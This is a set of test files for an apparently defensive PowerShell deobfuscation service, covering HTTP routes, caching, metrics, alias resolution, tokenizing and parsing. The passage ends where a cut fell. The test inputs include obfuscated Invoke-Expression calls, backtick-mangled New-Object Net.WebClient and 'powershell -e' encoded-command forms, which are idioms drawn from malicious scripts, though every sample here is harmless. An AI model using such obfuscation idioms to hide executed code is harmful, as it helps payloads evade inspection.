        # The slow instance's exemplar survives the label-wise merge.
        assert ps.worst_exemplar()[0] == "t-slow"

    def test_render_metrics_emits_one_labeled_family(self):
        merged = merge_snapshots(
            [
                self.snapshot_with(
                    "powershell|recovery-strict", [0.01], "t-a"
                ),
                self.snapshot_with("js|verify-observing", [0.5], "t-js"),
            ]
        )
        text = render_metrics(merged)
        labeled = [
            line
            for line in text.splitlines()
            if line.startswith(
                "repro_service_request_duration_by_seconds_bucket"
            )
        ]
        assert any('language="powershell"' in line for line in labeled)
        assert any('language="js"' in line for line in labeled)
        assert all('policy="' in line for line in labeled)
        # One HELP/TYPE header for the whole family, despite two series.
        assert (
            text.count(
                "# TYPE repro_service_request_duration_by_seconds "
                "histogram"
            )
            == 1
        )

    def test_labels_render_on_the_single_instance_path(self):
        snapshot = self.snapshot_with(
            "powershell|recovery-strict", [0.25], "t-one"
        )
        text = render_metrics(snapshot)
        assert (
            'repro_service_request_duration_by_seconds_count'
            '{language="powershell",policy="recovery-strict"}'
        ) in text
