"""Fault-injecting and execution-counting service workers.

Like :mod:`tests.batch.helpers`, but source-aware: service tasks carry
the script in ``task.source`` (no file on disk).  ``counting_worker``
additionally appends one line per *pipeline execution* to the file
named by ``REPRO_SERVICE_TEST_COUNTER`` — cross-process proof that
single-flight ran each unique input exactly once (workers inherit the
environment at spawn, so tests set the variable before the service
starts).
"""

import os
import time

from repro.batch.task import Task, run_one, task_bytes

LOOP_MARKER = "repro-service-test-loop"
SLEEP_MARKER = "repro-service-test-sleep"
CRASH_MARKER = "repro-service-test-crash"
COUNTER_ENV = "REPRO_SERVICE_TEST_COUNTER"


def _content(task: Task) -> str:
    return task_bytes(task).decode("utf-8", errors="replace")


def counting_worker(task: Task) -> dict:
    """Record the execution, then misbehave if the script says so."""
    counter = os.environ.get(COUNTER_ENV)
    if counter:
        with open(counter, "a", encoding="utf-8") as handle:
            handle.write(task.path + "\n")
    content = _content(task)
    if LOOP_MARKER in content:
        while True:
            time.sleep(0.05)
    if CRASH_MARKER in content:
        os._exit(23)
    if SLEEP_MARKER in content:
        time.sleep(0.8)
    return run_one(task)
