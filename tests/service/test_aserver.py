"""Tests for the asyncio front end (:mod:`repro.service.aserver`).

The contract under test is dialect parity: a client must not be able
to tell the asyncio edge from the threaded one — same routes, same
JSON shapes, same status codes, same drain semantics — plus the two
things only this edge does: bounded edge admission (429 before the
dispatch executor saturates) and keep-alive connection reuse.
"""

import http.client
import json
import threading

import pytest

from repro.service import (
    DeobfuscationService,
    ServiceConfig,
    start_async_server,
)
from repro.service.core import jittered_retry_after
from tests.service.helpers import COUNTER_ENV, SLEEP_MARKER
from tests.service.test_service import get, metric_value, post

COUNTING = "tests.service.helpers:counting_worker"


@pytest.fixture
def aserved():
    """A running service behind the asyncio edge; yields a factory."""
    handles = []

    def make(**overrides):
        server_options = {
            name: overrides.pop(name)
            for name in ("max_pending", "idle_timeout")
            if name in overrides
        }
        defaults = dict(jobs=2, timeout=10.0, kill_grace=0.3,
                        queue_limit=64)
        defaults.update(overrides)
        service = DeobfuscationService(ServiceConfig(**defaults))
        handle = start_async_server(service, **server_options)
        handles.append(handle)
        host, port = handle.server_address
        return service, handle, f"http://{host}:{port}"

    yield make
    for handle in handles:
        handle.shutdown(drain=True)


class TestRouteParity:
    def test_deobfuscate_matches_direct_pipeline(self, aserved):
        from repro import Deobfuscator

        _service, _handle, url = aserved()
        script = "$a = 'wri'+'te-host'; I`E`X ($a + ' same')"
        code, body, headers = post(url, {"script": script})
        assert code == 200
        direct = Deobfuscator().deobfuscate(script)
        assert body["script"] == direct.script
        assert body["cache_hit"] is False
        assert headers.get("X-Trace-Id") == body["trace_id"]

    def test_cache_hit_on_resubmission(self, aserved):
        _service, _handle, url = aserved()
        _code, first, _h = post(url, {"script": "write-host again"})
        _code, second, _h = post(url, {"script": "write-host again"})
        assert second["cache_hit"] is True
        assert second["cache_key"] == first["cache_key"]

    def test_verify_via_query_and_body(self, aserved):
        import urllib.request

        _service, _handle, url = aserved()

        def post_query(payload):
            request = urllib.request.Request(
                url + "/deobfuscate?verify=1",
                data=json.dumps(payload).encode("utf-8"),
                headers={"Content-Type": "application/json"},
                method="POST",
            )
            with urllib.request.urlopen(request, timeout=30.0) as response:
                return response.status, json.loads(response.read())

        code, body = post_query({"script": "write-host v"})
        assert code == 200
        assert body["verify"]["verdict"] == "equivalent"
        # The body field overrides the query default off again.
        code, body = post_query({"script": "write-host v2", "verify": False})
        assert "verify" not in body

    def test_bad_requests_rejected(self, aserved):
        _service, _handle, url = aserved()
        code, body, _h = post(url, {"no_script": True})
        assert code == 400
        code, body, _h = post(url, {"script": "x", "timeout": "soon"})
        assert code == 400
        code, body, _h = post(url, {"script": "x", "policy": "no-such"})
        assert code == 400
        assert "unknown policy" in body["error"]
        status, _body = get(url, "/nope")
        assert status == 404

    def test_raw_garbage_body_is_a_400(self, aserved):
        _service, _handle, url = aserved()
        host, port = url.replace("http://", "").split(":")
        conn = http.client.HTTPConnection(host, int(port), timeout=10.0)
        conn.request(
            "POST", "/deobfuscate", body=b"\xff not json",
            headers={"Content-Type": "application/json"},
        )
        response = conn.getresponse()
        assert response.status == 400
        assert b"not valid JSON" in response.read()
        conn.close()

    def test_healthz_reports_fleet_readiness_fields(self, aserved, tmp_path):
        from repro import package_version

        _service, _handle, url = aserved(cache_dir=str(tmp_path / "cache"))
        status, body = get(url, "/healthz")
        health = json.loads(body)
        assert status == 200
        assert health["status"] == "ok"
        assert health["version"] == package_version()
        assert health["pool_size"] == 2
        assert health["queue_depth"] == 0
        assert health["cache_shards"] == 8
        assert health["warm_start"]["enabled"] is True
        assert health["warm_start"]["warm_start"] is False

    def test_metrics_text_and_json(self, aserved):
        _service, _handle, url = aserved()
        post(url, {"script": "write-host m"})
        status, text = get(url, "/metrics")
        assert status == 200
        assert metric_value(text, "repro_service_requests_total") == 1
        assert metric_value(text, "repro_service_pool_size") == 2
        assert metric_value(text, "repro_service_cache_shards") == 8
        status, raw = get(url, "/metrics.json")
        snapshot = json.loads(raw)
        assert snapshot["counters"]["requests"] == 1
        assert snapshot["cache"]["shards"] == 8


class TestKeepAlive:
    def test_connection_reuse_across_requests(self, aserved):
        _service, _handle, url = aserved()
        host, port = url.replace("http://", "").split(":")
        conn = http.client.HTTPConnection(host, int(port), timeout=10.0)
        for index in range(3):
            body = json.dumps({"script": f"write-host k{index}"})
            conn.request(
                "POST", "/deobfuscate", body=body,
                headers={"Content-Type": "application/json"},
            )
            response = conn.getresponse()
            assert response.status == 200
            assert response.headers["Connection"] == "keep-alive"
            json.loads(response.read())
        conn.close()


class TestEdgeAdmission:
    def test_edge_429_when_pending_saturated(self, aserved):
        _service, handle, url = aserved(max_pending=4)
        # Deterministic saturation: claim every slot by hand, then ask.
        handle.server._pending = handle.server.max_pending
        try:
            code, body, headers = post(url, {"script": "write-host x"})
        finally:
            handle.server._pending = 0
        assert code == 429
        assert body["error"] == "edge at capacity"
        retry_after = int(headers["Retry-After"])
        assert 1 <= retry_after <= 2
        assert body["retry_after"] == retry_after

    def test_queue_overflow_is_jittered_429(self, aserved):
        _service, _handle, url = aserved(
            worker=COUNTING, jobs=1, queue_limit=1, timeout=5.0
        )
        responses = []
        barrier = threading.Barrier(6)

        def one(index):
            barrier.wait(timeout=10.0)
            responses.append(
                post(url, {"script": f"# {SLEEP_MARKER}\nwrite-host {index}"})
            )

        threads = [
            threading.Thread(target=one, args=(index,))
            for index in range(6)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30.0)

        codes = sorted(code for code, _b, _h in responses)
        assert 429 in codes, codes
        for code, body, headers in responses:
            if code != 429:
                continue
            assert "queue full" in body["error"]
            # ServiceUnavailable default retry_after=1.0, jittered over
            # [1, 2].
            assert 1 <= int(headers["Retry-After"]) <= 2


class TestSingleFlight:
    def test_concurrent_duplicates_execute_once(self, aserved, tmp_path,
                                                monkeypatch):
        counter = tmp_path / "executions.log"
        monkeypatch.setenv(COUNTER_ENV, str(counter))
        _service, _handle, url = aserved(worker=COUNTING)

        script = f"# {SLEEP_MARKER}\nwrite-host slow"
        outcomes = []
        barrier = threading.Barrier(4)

        def one():
            barrier.wait(timeout=10.0)
            outcomes.append(post(url, {"script": script}))

        threads = [threading.Thread(target=one) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30.0)

        assert len(counter.read_text().splitlines()) == 1
        assert all(code == 200 for code, _b, _h in outcomes)
        assert sum(1 for _c, b, _h in outcomes if b["coalesced"]) == 3


class TestDrain:
    def test_drain_rejects_then_stops_clean(self, aserved):
        service, handle, url = aserved()
        code, _body, _h = post(url, {"script": "write-host pre"})
        assert code == 200
        service.begin_drain()
        code, body, _h = post(url, {"script": "write-host late"})
        assert code == 503
        assert body["error"] == "draining"
        status, body = get(url, "/healthz")
        assert status == 503
        assert json.loads(body)["status"] == "draining"
        assert handle.shutdown(drain=True) is True


class TestRetryAfterJitter:
    def test_spread_over_base_to_double(self):
        values = {jittered_retry_after(5.0) for _ in range(300)}
        assert values <= set(range(5, 11))
        assert len(values) > 1, "no jitter at all"

    def test_minimum_is_one_second(self):
        assert all(
            1 <= jittered_retry_after(0.0) <= 2 for _ in range(50)
        )
