"""``POST /deobfuscate?verify=1`` and the verdict metrics."""

from tests.service.test_service import get, metric_value, post, served  # noqa: F401

OBFUSCATED = "I`E`X ('wri'+'te-host hi')"


class TestVerifyOverHTTP:
    def test_query_parameter_attaches_verdict(self, served):  # noqa: F811
        service, url = served(jobs=1)
        import json
        import urllib.request

        request = urllib.request.Request(
            url + "/deobfuscate?verify=1",
            data=json.dumps({"script": OBFUSCATED}).encode("utf-8"),
            headers={"Content-Type": "application/json"},
            method="POST",
        )
        with urllib.request.urlopen(request, timeout=30.0) as response:
            assert response.status == 200
            record = json.loads(response.read())
        assert record["verify"]["verdict"] == "equivalent"
        assert record["status"] == "ok"

    def test_body_flag_attaches_verdict(self, served):  # noqa: F811
        service, url = served(jobs=1)
        status, record, _ = post(
            url, {"script": OBFUSCATED, "verify": True}
        )
        assert status == 200
        assert record["verify"]["verdict"] == "equivalent"

    def test_unverified_requests_carry_no_verdict(self, served):  # noqa: F811
        service, url = served(jobs=1)
        status, record, _ = post(url, {"script": OBFUSCATED})
        assert status == 200
        assert "verify" not in record

    def test_metrics_count_verdicts(self, served):  # noqa: F811
        service, url = served(jobs=1)
        post(url, {"script": OBFUSCATED, "verify": True})
        status, metrics = get(url, "/metrics")
        assert status == 200
        assert metric_value(
            metrics,
            'repro_service_verify_verdicts_total{verdict="equivalent"}',
        ) == 1.0

    def test_verify_and_plain_results_do_not_mix(self, served):  # noqa: F811
        service, url = served(jobs=1)
        _, verified, _ = post(url, {"script": OBFUSCATED, "verify": True})
        _, plain, _ = post(url, {"script": OBFUSCATED})
        assert verified["cache_key"] != plain["cache_key"]
        assert not plain["cache_hit"]
        # resubmitting each form hits its own cache entry
        _, again, _ = post(url, {"script": OBFUSCATED, "verify": True})
        assert again["cache_hit"] and again["verify"]["verdict"]
