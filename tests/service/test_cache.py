"""Unit tests for :mod:`repro.service.cache`: keying, LRU bounds,
byte budget, and single-flight atomicity."""

import threading

import pytest

from repro.service.cache import (
    HIT,
    JOIN,
    LEAD,
    ResultCache,
    cache_key,
    normalize_source,
)


class TestNormalization:
    def test_newlines_bom_and_padding_collapse(self):
        base = "write-host hi\n$x = 1"
        variants = [
            "write-host hi\r\n$x = 1",
            "﻿write-host hi\n$x = 1",
            "  write-host hi\n$x = 1  \n\n",
            "write-host hi\r$x = 1",
        ]
        for variant in variants:
            assert normalize_source(variant) == normalize_source(base)
            assert cache_key(variant) == cache_key(base)

    def test_different_content_different_key(self):
        assert cache_key("write-host a") != cache_key("write-host b")

    def test_options_partition_the_key(self):
        script = "write-host hi"
        assert cache_key(script, {"rename": True}) != cache_key(
            script, {"rename": False}
        )
        # option order must not matter
        assert cache_key(script, {"a": 1, "b": 2}) == cache_key(
            script, {"b": 2, "a": 1}
        )


class TestLRU:
    def test_entry_budget_evicts_least_recently_used(self):
        cache = ResultCache(max_entries=2, max_bytes=1 << 20)
        cache.put("a", {"n": 1})
        cache.put("b", {"n": 2})
        assert cache.get("a") == {"n": 1}  # refresh a; b is now LRU
        cache.put("c", {"n": 3})
        assert cache.get("b") is None
        assert cache.get("a") == {"n": 1}
        assert cache.get("c") == {"n": 3}
        assert cache.evictions == 1

    def test_byte_budget_evicts(self):
        cache = ResultCache(max_entries=100, max_bytes=120)
        payload = {"script": "x" * 40}  # ~52 JSON bytes each
        cache.put("a", payload)
        cache.put("b", payload)
        assert len(cache) == 2
        cache.put("c", payload)  # 3 * 52 > 120 -> evict "a"
        assert len(cache) == 2
        assert cache.get("a") is None
        assert cache.get("b") is not None

    def test_oversized_record_not_stored(self):
        cache = ResultCache(max_entries=10, max_bytes=50)
        cache.put("big", {"script": "x" * 1000})
        assert len(cache) == 0
        assert cache.get("big") is None

    def test_replacing_a_key_adjusts_bytes(self):
        cache = ResultCache(max_entries=10, max_bytes=10_000)
        cache.put("a", {"script": "x" * 100})
        first = cache.current_bytes
        cache.put("a", {"script": "y" * 10})
        assert len(cache) == 1
        assert cache.current_bytes < first

    def test_zero_capacity_disables_storage(self):
        cache = ResultCache(max_entries=0)
        cache.put("a", {"n": 1})
        assert cache.get("a") is None

    def test_hit_miss_counters(self):
        cache = ResultCache()
        assert cache.get("a") is None
        cache.put("a", {"n": 1})
        cache.get("a")
        snap = cache.snapshot()
        assert snap["hits"] == 1
        assert snap["misses"] == 1


class TestSingleFlight:
    def test_lead_then_hit(self):
        cache = ResultCache()
        outcome, flight = cache.lookup("k")
        assert outcome == LEAD
        cache.resolve("k", {"status": "ok"})
        outcome, record = cache.lookup("k")
        assert outcome == HIT
        assert record == {"status": "ok"}

    def test_join_receives_leader_result(self):
        cache = ResultCache()
        outcome, _flight = cache.lookup("k")
        assert outcome == LEAD
        outcome, flight = cache.lookup("k")
        assert outcome == JOIN

        results = []
        waiter = threading.Thread(
            target=lambda: results.append(flight.wait(5.0))
        )
        waiter.start()
        cache.resolve("k", {"status": "ok", "n": 7})
        waiter.join(timeout=5.0)
        assert results == [{"status": "ok", "n": 7}]
        assert cache.in_flight == 0

    def test_uncacheable_resolution_reaches_waiters_but_not_cache(self):
        cache = ResultCache()
        cache.lookup("k")
        _outcome, flight = cache.lookup("k")
        cache.resolve("k", {"status": "error"}, cacheable=False)
        assert flight.wait(1.0) == {"status": "error"}
        # nothing stored: next lookup leads again
        outcome, _ = cache.lookup("k")
        assert outcome == LEAD

    def test_abandon_wakes_waiters_empty_handed(self):
        cache = ResultCache()
        cache.lookup("k")
        _outcome, flight = cache.lookup("k")
        cache.abandon("k")
        assert flight.wait(1.0) is None
        assert flight.event.is_set()

    def test_exactly_one_leader_under_contention(self):
        cache = ResultCache()
        outcomes = []
        barrier = threading.Barrier(16)

        def contend():
            barrier.wait()
            outcome, _ = cache.lookup("k")
            outcomes.append(outcome)

        threads = [threading.Thread(target=contend) for _ in range(16)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=5.0)
        assert outcomes.count(LEAD) == 1
        assert outcomes.count(JOIN) == 15
        assert cache.snapshot()["coalesced"] == 15


@pytest.mark.parametrize("status,cached", [("ok", True), ("invalid", True)])
def test_cacheable_statuses_match_service_policy(status, cached):
    from repro.service import CACHEABLE_STATUSES

    assert (status in CACHEABLE_STATUSES) is cached
    assert "error" not in CACHEABLE_STATUSES
    assert "timeout" not in CACHEABLE_STATUSES
