"""Tests for the alias table and canonical casing."""

from repro.pslang.aliases import (
    ALIASES,
    canonical_case,
    canonicalize_command,
    resolve_alias,
)


class TestAliasTable:
    def test_iex(self):
        assert resolve_alias("iex") == "Invoke-Expression"

    def test_case_insensitive(self):
        assert resolve_alias("IeX") == "Invoke-Expression"

    def test_percent_and_question(self):
        assert resolve_alias("%") == "ForEach-Object"
        assert resolve_alias("?") == "Where-Object"

    def test_not_an_alias(self):
        assert resolve_alias("write-host") is None

    def test_all_values_canonical_or_known(self):
        for alias, command in ALIASES.items():
            assert alias == alias.lower()
            assert command  # non-empty


class TestCanonicalCase:
    def test_known(self):
        assert canonical_case("write-host") == "Write-Host"
        assert canonical_case("INVOKE-EXPRESSION") == "Invoke-Expression"

    def test_unknown(self):
        assert canonical_case("invoke-mycustomthing") is None


class TestCanonicalize:
    def test_alias_wins(self):
        assert canonicalize_command("gci") == "Get-ChildItem"

    def test_casing_applied(self):
        assert canonicalize_command("wRiTe-hOsT") == "Write-Host"

    def test_unknown_passthrough(self):
        assert canonicalize_command("My-Tool") == "My-Tool"
