"""Unit tests for the PowerShell tokenizer."""

import pytest

from repro.pslang.errors import LexError
from repro.pslang.tokenizer import significant_tokens, tokenize, try_tokenize
from repro.pslang.tokens import PSTokenType


def types(source):
    return [t.type for t in significant_tokens(tokenize(source))]


def contents(source):
    return [t.content for t in significant_tokens(tokenize(source))]


class TestBasicTokens:
    def test_simple_command(self):
        tokens = significant_tokens(tokenize("write-host hello"))
        assert tokens[0].type is PSTokenType.COMMAND
        assert tokens[0].content == "write-host"
        assert tokens[1].type is PSTokenType.COMMAND_ARGUMENT
        assert tokens[1].content == "hello"

    def test_token_extents_cover_source(self):
        source = "write-host hello"
        tokens = tokenize(source)
        for token in tokens:
            assert source[token.start:token.end] == token.text

    def test_command_parameter(self):
        tokens = significant_tokens(tokenize("write-host hi -ForegroundColor red"))
        params = [t for t in tokens if t.type is PSTokenType.COMMAND_PARAMETER]
        assert len(params) == 1
        assert params[0].content == "-ForegroundColor"

    def test_statement_separator(self):
        assert PSTokenType.STATEMENT_SEPARATOR in types("a; b")

    def test_pipe_operator(self):
        tokens = significant_tokens(tokenize("dir | measure"))
        assert tokens[1].type is PSTokenType.OPERATOR
        assert tokens[1].content == "|"
        assert tokens[2].type is PSTokenType.COMMAND

    def test_newline_token(self):
        tokens = tokenize("a\nb")
        assert any(t.type is PSTokenType.NEWLINE for t in tokens)

    def test_comment(self):
        tokens = tokenize("write-host hi # comment")
        comment = [t for t in tokens if t.type is PSTokenType.COMMENT]
        assert comment and comment[0].content == "# comment"

    def test_block_comment(self):
        tokens = tokenize("<# multi\nline #> write-host hi")
        assert tokens[0].type is PSTokenType.COMMENT
        sig = significant_tokens(tokens)
        assert sig[0].type is PSTokenType.COMMAND


class TestBacktickHandling:
    def test_ticked_command_content_strips_backticks(self):
        tokens = significant_tokens(tokenize("nE`w-oBjE`Ct Net.WebClient"))
        assert tokens[0].content == "nEw-oBjECt"
        assert tokens[0].text == "nE`w-oBjE`Ct"

    def test_ticked_argument(self):
        tokens = significant_tokens(tokenize("write-host he`llo"))
        assert tokens[1].content == "hello"

    def test_line_continuation(self):
        tokens = tokenize("write-host `\nhello")
        assert any(t.type is PSTokenType.LINE_CONTINUATION for t in tokens)
        sig = significant_tokens(tokens)
        assert sig[1].content == "hello"


class TestStrings:
    def test_single_quoted(self):
        tokens = significant_tokens(tokenize("'hello world'"))
        assert tokens[0].type is PSTokenType.STRING
        assert tokens[0].content == "hello world"
        assert tokens[0].quote == "'"

    def test_single_quote_escape(self):
        tokens = significant_tokens(tokenize("'it''s'"))
        assert tokens[0].content == "it's"

    def test_double_quoted_plain(self):
        tokens = significant_tokens(tokenize('"hello"'))
        assert tokens[0].content == "hello"
        assert tokens[0].quote == '"'

    def test_double_quoted_escapes(self):
        tokens = significant_tokens(tokenize(r'"a`tb`nc"'))
        assert tokens[0].content == "a\tb\nc"

    def test_double_quoted_keeps_variables_verbatim(self):
        tokens = significant_tokens(tokenize('"value: $x"'))
        assert tokens[0].content == "value: $x"

    def test_double_quoted_subexpression_balanced(self):
        tokens = significant_tokens(tokenize('"got $(1+2) items"'))
        assert tokens[0].content == "got $(1+2) items"

    def test_double_quote_doubling(self):
        tokens = significant_tokens(tokenize('"say ""hi"""'))
        assert tokens[0].content == 'say "hi"'

    def test_here_string_single(self):
        source = "@'\nline1\nline2\n'@"
        tokens = significant_tokens(tokenize(source))
        assert tokens[0].type is PSTokenType.STRING
        assert tokens[0].content == "line1\nline2"
        assert tokens[0].quote == "@'"

    def test_here_string_double(self):
        source = '@"\npayload $x\n"@'
        tokens = significant_tokens(tokenize(source))
        assert tokens[0].content == "payload $x"

    def test_unterminated_single_raises(self):
        with pytest.raises(LexError):
            tokenize("'oops")

    def test_unterminated_double_raises(self):
        with pytest.raises(LexError):
            tokenize('"oops')

    def test_smart_quotes_fold(self):
        tokens = significant_tokens(tokenize("‘hello’"))
        assert tokens[0].type is PSTokenType.STRING
        assert tokens[0].content == "hello"

    def test_trailing_string_at_eof(self):
        tokens = significant_tokens(tokenize("&'iex' 'cmd'"))
        assert tokens[-1].content == "cmd"


class TestVariables:
    def test_simple_variable(self):
        tokens = significant_tokens(tokenize("$name"))
        assert tokens[0].type is PSTokenType.VARIABLE
        assert tokens[0].content == "name"

    def test_env_variable(self):
        tokens = significant_tokens(tokenize("$env:ComSpec"))
        assert tokens[0].content == "env:ComSpec"

    def test_braced_variable(self):
        tokens = significant_tokens(tokenize("${weird name}"))
        assert tokens[0].content == "weird name"

    def test_underscore_variable(self):
        tokens = significant_tokens(tokenize("$_"))
        assert tokens[0].content == "_"

    def test_variable_index_stops_name(self):
        tokens = significant_tokens(tokenize("$pshome[4]"))
        assert tokens[0].content == "pshome"
        assert tokens[1].type is PSTokenType.GROUP_START

    def test_splat_variable(self):
        tokens = significant_tokens(tokenize("cmd @args"))
        variables = [t for t in tokens if t.type is PSTokenType.VARIABLE]
        assert variables[0].content == "args"
        assert variables[0].text == "@args"


class TestNumbers:
    def test_integer(self):
        tokens = significant_tokens(tokenize("$x = 42"))
        numbers = [t for t in tokens if t.type is PSTokenType.NUMBER]
        assert numbers[0].content == "42"

    def test_hex(self):
        tokens = significant_tokens(tokenize("$x = 0x4B"))
        numbers = [t for t in tokens if t.type is PSTokenType.NUMBER]
        assert numbers[0].content == "0x4B"

    def test_float(self):
        tokens = significant_tokens(tokenize("$x = 3.14"))
        numbers = [t for t in tokens if t.type is PSTokenType.NUMBER]
        assert numbers[0].content == "3.14"

    def test_multiplier_suffix(self):
        tokens = significant_tokens(tokenize("$x = 2kb"))
        numbers = [t for t in tokens if t.type is PSTokenType.NUMBER]
        assert numbers[0].content == "2kb"


class TestOperators:
    def test_format_operator(self):
        tokens = significant_tokens(tokenize("'{0}' -f 'x'"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert ops[0].content == "-f"

    def test_dash_operator_no_space(self):
        tokens = significant_tokens(tokenize("'a,b'-SPLIT','"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert ops[0].content == "-split"

    def test_bxor_with_string_operand(self):
        tokens = significant_tokens(tokenize("$_ -BxoR'0x4B'"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert ops[0].content == "-bxor"

    def test_join_after_group(self):
        tokens = significant_tokens(tokenize("('a','b')-jOiN''"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert "-join" in [o.content for o in ops]

    def test_dash_word_in_args_is_parameter(self):
        tokens = significant_tokens(tokenize("foo -split"))
        assert tokens[1].type is PSTokenType.COMMAND_PARAMETER

    def test_range_operator(self):
        tokens = significant_tokens(tokenize("1..10"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert ops[0].content == ".."

    def test_static_member_operator(self):
        tokens = significant_tokens(tokenize("[Convert]::ToInt32"))
        assert tokens[0].type is PSTokenType.TYPE
        assert tokens[1].content == "::"
        assert tokens[2].type is PSTokenType.MEMBER

    def test_unicode_dash_folds(self):
        tokens = significant_tokens(tokenize("'a b' –split ' '"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert ops[0].content == "-split"

    def test_assignment(self):
        tokens = significant_tokens(tokenize("$a += 1"))
        ops = [t for t in tokens if t.type is PSTokenType.OPERATOR]
        assert ops[0].content == "+="


class TestTypesAndMembers:
    def test_type_literal(self):
        tokens = significant_tokens(tokenize("[char]97"))
        assert tokens[0].type is PSTokenType.TYPE
        assert tokens[0].content == "char"

    def test_type_with_backticks(self):
        tokens = significant_tokens(tokenize("[cH`AR]97"))
        assert tokens[0].content == "cHAR"

    def test_cast_chain(self):
        tokens = significant_tokens(tokenize("[string][char]39"))
        assert tokens[0].type is PSTokenType.TYPE
        assert tokens[1].type is PSTokenType.TYPE

    def test_member_access(self):
        tokens = significant_tokens(tokenize("$x.Length"))
        members = [t for t in tokens if t.type is PSTokenType.MEMBER]
        assert members[0].content == "Length"

    def test_ticked_member(self):
        tokens = significant_tokens(tokenize("'x'.RepL`Ace('a','b')"))
        members = [t for t in tokens if t.type is PSTokenType.MEMBER]
        assert members[0].content == "RepLAce"

    def test_index_after_value_is_group(self):
        tokens = significant_tokens(tokenize("$a[0]"))
        assert tokens[1].type is PSTokenType.GROUP_START
        assert tokens[1].content == "["


class TestKeywords:
    def test_if_keyword(self):
        tokens = significant_tokens(tokenize("if ($x) { }"))
        assert tokens[0].type is PSTokenType.KEYWORD

    def test_keyword_case_insensitive(self):
        tokens = significant_tokens(tokenize("ForEach ($i in $c) { }"))
        assert tokens[0].type is PSTokenType.KEYWORD

    def test_function_name(self):
        tokens = significant_tokens(tokenize("function Do-Thing { }"))
        assert tokens[0].type is PSTokenType.KEYWORD
        assert tokens[1].content == "Do-Thing"


class TestBase64Arguments:
    def test_equals_in_argument(self):
        tokens = significant_tokens(tokenize("powershell -e aGVsbG8="))
        args = [t for t in tokens if t.type is PSTokenType.COMMAND_ARGUMENT]
        assert args[0].content == "aGVsbG8="

    def test_plus_slash_in_argument(self):
        tokens = significant_tokens(tokenize("powershell -enc a+b/c=="))
        args = [t for t in tokens if t.type is PSTokenType.COMMAND_ARGUMENT]
        assert args[0].content == "a+b/c=="


class TestRobustness:
    def test_try_tokenize_invalid(self):
        tokens, error = try_tokenize("'unterminated")
        assert tokens is None
        assert "unterminated" in error

    def test_try_tokenize_valid(self):
        tokens, error = try_tokenize("write-host hi")
        assert error is None
        assert tokens

    def test_empty_source(self):
        assert tokenize("") == []

    def test_whitespace_only(self):
        assert significant_tokens(tokenize("   \t  ")) == []

    def test_nbsp_whitespace(self):
        tokens = significant_tokens(tokenize("write-host\xa0hi"))
        assert tokens[0].content == "write-host"

    def test_every_token_has_nonnegative_extent(self):
        source = "$a = (1+2) * 3; write-host \"done $a\""
        for token in tokenize(source):
            assert token.length >= 1
            assert 0 <= token.start <= token.end <= len(source)
