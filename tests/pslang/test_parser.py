"""Unit tests for the PowerShell parser and AST extents."""

import pytest

from repro.pslang import ast_nodes as N
from repro.pslang import parse
from repro.pslang.errors import ParseError
from repro.pslang.parser import parse_number, try_parse


def only_statement(source):
    ast = parse(source)
    assert len(ast.statements) == 1
    return ast.statements[0]


def expression_of(source):
    statement = only_statement(source)
    assert isinstance(statement, N.PipelineAst)
    element = statement.elements[0]
    assert isinstance(element, N.CommandExpressionAst)
    return element.expression


class TestParseNumber:
    @pytest.mark.parametrize(
        "text,expected",
        [
            ("42", 42),
            ("0x4B", 75),
            ("-7", -7),
            ("3.5", 3.5),
            ("1e3", 1000),
            ("2kb", 2048),
            ("1mb", 1024**2),
            ("10l", 10),
        ],
    )
    def test_values(self, text, expected):
        assert parse_number(text) == expected


class TestPipelines:
    def test_simple_command(self):
        statement = only_statement("write-host hello")
        assert isinstance(statement, N.PipelineAst)
        command = statement.elements[0]
        assert isinstance(command, N.CommandAst)
        assert command.command_name("write-host hello") == "write-host"

    def test_two_stage_pipeline(self):
        statement = only_statement("'x' | iex")
        assert len(statement.elements) == 2
        assert isinstance(statement.elements[0], N.CommandExpressionAst)
        assert isinstance(statement.elements[1], N.CommandAst)

    def test_call_operator_ampersand(self):
        statement = only_statement("&'iex' 'cmd'")
        command = statement.elements[0]
        assert command.invocation_operator == "&"
        assert isinstance(command.elements[0], N.StringConstantExpressionAst)
        assert command.elements[0].value == "iex"

    def test_call_operator_dot(self):
        statement = only_statement(".('ie'+'x') 'cmd'")
        command = statement.elements[0]
        assert command.invocation_operator == "."
        assert isinstance(command.elements[0], N.ParenExpressionAst)

    def test_command_parameter_with_argument(self):
        statement = only_statement("powershell -e aGk=")
        command = statement.elements[0]
        parameter = command.elements[1]
        assert isinstance(parameter, N.CommandParameterAst)
        assert parameter.name == "-e"
        argument = command.elements[2]
        assert argument.value == "aGk="


class TestExpressions:
    def test_string_concat(self):
        expr = expression_of("'a'+'b'")
        assert isinstance(expr, N.BinaryExpressionAst)
        assert expr.operator == "+"

    def test_format_operator_binds_array(self):
        expr = expression_of("'{1}{0}' -f 'b','a'")
        assert isinstance(expr, N.BinaryExpressionAst)
        assert expr.operator == "-f"
        assert isinstance(expr.right, N.ArrayLiteralAst)
        assert len(expr.right.elements) == 2

    def test_chained_split(self):
        expr = expression_of("'a~b,c' -split '~' -split ','")
        assert expr.operator == "-split"
        assert isinstance(expr.left, N.BinaryExpressionAst)
        assert expr.left.operator == "-split"

    def test_unary_join(self):
        expr = expression_of("-join ('a','b')")
        assert isinstance(expr, N.UnaryExpressionAst)
        assert expr.operator == "-join"

    def test_unary_minus(self):
        expr = expression_of("$x = 1; -$y".split(";")[1])
        assert isinstance(expr, N.UnaryExpressionAst)

    def test_cast(self):
        expr = expression_of("[char]97")
        assert isinstance(expr, N.ConvertExpressionAst)
        assert expr.type_name_str == "char"
        assert expr.child.value == 97

    def test_cast_chain(self):
        expr = expression_of("[string][char]39")
        assert isinstance(expr, N.ConvertExpressionAst)
        assert expr.type_name_str == "string"
        assert isinstance(expr.child, N.ConvertExpressionAst)

    def test_static_method_call(self):
        expr = expression_of("[Convert]::FromBase64String('aGk=')")
